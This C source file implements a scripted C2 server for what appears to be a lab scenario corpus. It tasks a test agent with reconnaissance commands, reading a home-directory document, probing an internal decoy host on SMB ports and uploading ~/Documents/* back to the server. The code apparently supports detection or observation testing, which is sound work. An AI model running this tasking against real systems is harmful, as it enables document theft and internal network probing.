/*
 * The scripted operator of the scenario corpus: the C2 server that drives the test agent
 * (agent.c) from the simulated internet. The profile starts it as a C2 program; it listens
 * on BOS_C2_ADDR:BOS_C2_PORT (or --listen ADDR:PORT) and answers the agent's polls:
 *
 *   burst 1 at the first poll: id; uname -a; ls of the home directory; reading a decoy
 *     document; a connection to the internal decoy host; an upload of the document;
 *   then "no task" for --gap seconds (a quiet operator);
 *   burst 2 (with --bursts 2): whoami; hostname; ls -la /tmp; a second internal probe;
 *   then "!exit" on the next poll, so the observation ends early.
 *
 *   operator [--bursts 1|2] [--gap SECONDS] [--decoy-host ADDR] [--listen ADDR:PORT]
 *
 * Everything the agent posts is written to stderr (the lab keeps C2 output in its log).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <errno.h>
#include <getopt.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static void reply(int fd, const char *body)
{
	char hdr[256];
	int n = snprintf(hdr, sizeof(hdr), "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n"
			 "Content-Length: %zu\r\nConnection: close\r\n\r\n", strlen(body));

	if (write(fd, hdr, (size_t)n) < 0 || write(fd, body, strlen(body)) < 0)
		perror("operator: write");
}

/* Read one request (headers + Content-Length body, capped). Returns bytes or -1. */
static ssize_t read_request(int fd, char *buf, size_t cap)
{
	size_t got = 0, need = 0;
	struct pollfd p = { .fd = fd, .events = POLLIN };

	while (got < cap - 1 && poll(&p, 1, 3000) == 1) {
		ssize_t n = read(fd, buf + got, cap - 1 - got);
		char *end, *cl;

		if (n <= 0)
			break;
		got += (size_t)n;
		buf[got] = 0;
		end = strstr(buf, "\r\n\r\n");
		if (!end)
			continue;
		cl = strcasestr(buf, "Content-Length:");
		need = (size_t)(end + 4 - buf) + (cl && cl < end ? strtoul(cl + 15, NULL, 10) : 0);
		if (got >= need)
			break;
	}
	buf[got] = 0;
	return got ? (ssize_t)got : -1;
}

int main(int argc, char **argv)
{
	static const struct option lo[] = {
		{ "bursts", required_argument, NULL, 'b' }, { "gap", required_argument, NULL, 'g' },
		{ "decoy-host", required_argument, NULL, 'd' },
		{ "listen", required_argument, NULL, 'l' }, { NULL, 0, NULL, 0 },
	};
	const char *addr = getenv("BOS_C2_ADDR"), *port = getenv("BOS_C2_PORT");
	const char *decoy = "10.66.0.20";
	char listen_buf[128], burst1[1024], burst2[1024], *req;
	int bursts = 1, c, lfd, one = 1, state = 0;
	double gap = 5, t1 = 0;
	struct sockaddr_in sa = { .sin_family = AF_INET };

	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
		switch (c) {
		case 'b': bursts = atoi(optarg); break;
		case 'g': gap = atof(optarg); break;
		case 'd': decoy = optarg; break;
		case 'l': {
			char *colon;

			snprintf(listen_buf, sizeof(listen_buf), "%s", optarg);
			colon = strrchr(listen_buf, ':');
			if (!colon)
				return 2;
			*colon = 0;
			addr = listen_buf;
			port = colon + 1;
			break;
		}
		default:
			fprintf(stderr, "usage: operator [--bursts N] [--gap S] [--decoy-host A] [--listen A:P]\n");
			return 2;
		}
	}
	if (!addr || !port || inet_pton(AF_INET, addr, &sa.sin_addr) != 1) {
		fprintf(stderr, "operator: no listen address (BOS_C2_ADDR/BOS_C2_PORT or --listen)\n");
		return 2;
	}
	sa.sin_port = htons((uint16_t)atoi(port));
	snprintf(burst1, sizeof(burst1),
		 "id\nuname -a\nls -la ~\n"
		 "for f in ~/Documents/* ~/Desktop/* ~/*; do [ -f \"$f\" ] && { echo \"== $f\"; head -c 2048 \"$f\"; break; }; done\n"
		 "!connect %s 445\n!upload ~/Documents/*\n", decoy);
	snprintf(burst2, sizeof(burst2), "whoami\nhostname\nls -la /tmp\n!connect %s 139\n", decoy);
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	signal(SIGPIPE, SIG_IGN);
	lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	/* The lab delivers every address here (AnyIP), but the kernel only sends a SYN-ACK
	 * from an address that is not configured on an interface for a transparent socket
	 * (FLOWI_FLAG_ANYSRC): without this our SYN-ACKs are never routed. Needs
	 * CAP_NET_ADMIN, which a C2 program in the inet namespace has; best effort. */
	if (setsockopt(lfd, SOL_IP, IP_TRANSPARENT, &one, sizeof(one)))
		perror("operator: IP_TRANSPARENT");
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&sa, sizeof(sa)) || listen(lfd, 16)) {
		perror("operator: listen");
		return 1;
	}
	req = malloc(128 * 1024);
	fprintf(stderr, "operator: listening on %s:%s, bursts %d, gap %.1f s\n", addr, port, bursts, gap);
	while (!stop && req) {
		struct pollfd p = { .fd = lfd, .events = POLLIN };
		int fd;

		if (poll(&p, 1, 500) != 1)
			continue;
		fd = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
		if (fd < 0)
			continue;
		if (read_request(fd, req, 128 * 1024) < 0) {
			close(fd);
			continue;
		}
		if (!strncmp(req, "GET /task", 9)) {
			/* state: 0 before burst 1, 1 quiet after it, 2 quiet after burst 2, 3 done */
			if (state == 0) {
				reply(fd, burst1);
				t1 = now();
				state = 1;
			} else if (state == 1 && bursts >= 2 && now() - t1 >= gap) {
				reply(fd, burst2);
				t1 = now();
				state = 2;
			} else if ((state == 1 && bursts < 2 && now() - t1 >= 1.5) ||
				   (state == 2 && now() - t1 >= 1.5)) {
				reply(fd, "!exit\n");
				state = 3;
			} else {
				reply(fd, "no task\n");
			}
		} else {
			char *body = strstr(req, "\r\n\r\n");

			fprintf(stderr, "operator: %.*s: %zu bytes posted\n", (int)strcspn(req, "\r\n"), req,
				body ? strlen(body + 4) : 0);
			reply(fd, "ok\n");
		}
		close(fd);
	}
	free(req);
	return 0;
}
